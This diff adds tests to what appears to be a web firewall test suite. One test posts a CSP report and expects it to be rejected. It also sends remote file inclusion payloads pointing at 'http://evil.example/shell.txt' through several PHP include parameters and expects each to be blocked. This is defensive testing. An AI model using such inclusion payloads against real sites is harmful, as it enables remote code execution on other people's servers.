@@ -118,3 +118,15 @@ def test_a_contraction_after_a_line_break_is_no_command(edge, value):
 def test_quoted_command_words_still_refused(edge, value):
     status, rid = post(edge, {"message": value}, APP, "/contact")
     assert status == 403, value
+
+
+def test_a_csp_reports_source_file_is_a_url_it_names(edge):
+    doc = {"csp-report": {"document-uri": "https://shop.example/cart",
+                          "source-file": "https://cdn.example/app.3f2a.js",
+                          "blocked-uri": "https://ads.example/t.js", "line-number": 12}}
+    status, _ = post(edge, doc, {"Content-Type": "application/csp-report"}, "/csp-report")
+    assert status == 404
+    for name in ("file", "template_file", "page[include]"):
+        r = requests.get(edge.url + "/index.php",
+                         params={name: "http://evil.example/shell.txt"})
+        assert r.status_code == 403, name
